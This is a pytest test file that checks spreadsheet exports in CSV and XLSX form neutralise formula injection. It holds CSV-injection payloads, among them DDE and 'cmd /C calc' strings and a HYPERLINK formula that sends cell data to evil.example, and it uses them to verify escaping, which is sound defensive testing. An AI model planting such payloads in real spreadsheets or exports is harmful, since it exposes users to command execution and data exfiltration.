"""Sheets that leave us run nothing in anybody's spreadsheet (FAULTS S10): fifty payloads, both kinds of file."""

from __future__ import annotations

import csv
import io
from itertools import product

import pytest
from openpyxl import load_workbook

from signing.adapters.exports import SHEETS, csv_file, xlsx_file

BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u200b=", "\ufeff="]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', 'DDE("cmd";"/C calc";"x")']
PAYLOADS = [*("".join(each) for each in product(BEGINNINGS, BODIES)), "|calc", "%0A=1", "=" * 40_000]
PLAIN = ["2026-03-01", "0041", "Élan vital", "河流 عربي", "O'Hara, \"Ltd\"", "1e5", "TRUE", "http://x.example", ""]


def rows():
    yield ("id", "organisation")
    for number, payload in enumerate(PAYLOADS + PLAIN):
        yield (str(number), payload)


def test_no_cell_of_a_csv_file_begins_a_formula():
    data = b"".join(csv_file(rows()))
    assert data.startswith(b"\xef\xbb\xbfid,organisation\r\n")
    _, *read = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    cells = [cell for _, cell in read]
    dangerous = tuple("=+-@\t\r\n＝＋－＠|%")
    assert len(cells) == len(PAYLOADS + PLAIN) > 50
    assert not [cell for cell in cells if cell.lstrip(" \u200b\ufeff").startswith(dangerous)]
    assert cells[-len(PLAIN) :] == PLAIN
    assert all(cell.removeprefix("'") == payload for cell, payload in zip(cells, PAYLOADS, strict=False))


def test_every_cell_of_an_xlsx_file_is_text():
    book = load_workbook(io.BytesIO(b"".join(xlsx_file(rows()))))
    header, *read = book.active.iter_rows()
    assert [cell.value for cell in header] == ["id", "organisation"]
    assert {cell.data_type for row in read for cell in row if cell.value is not None} == {"s"}
    found = [row[1].value or "" for row in read]
    # openpyxl, as Excel, reads line ends of XML as one kind.
    wanted = [each[:32_767].replace("\r", "\n") for each in PAYLOADS + PLAIN]
    assert [each.replace("_x000D_", "\n").replace("\r", "\n") for each in found] == wanted
    assert not [row[1].hyperlink for row in read if row[1].hyperlink]


@pytest.mark.parametrize("kind", SHEETS)
def test_control_characters_are_left_out(kind):
    assert b"".join(SHEETS[kind](iter([("a\x00b\x1bc\ufffe",)])))
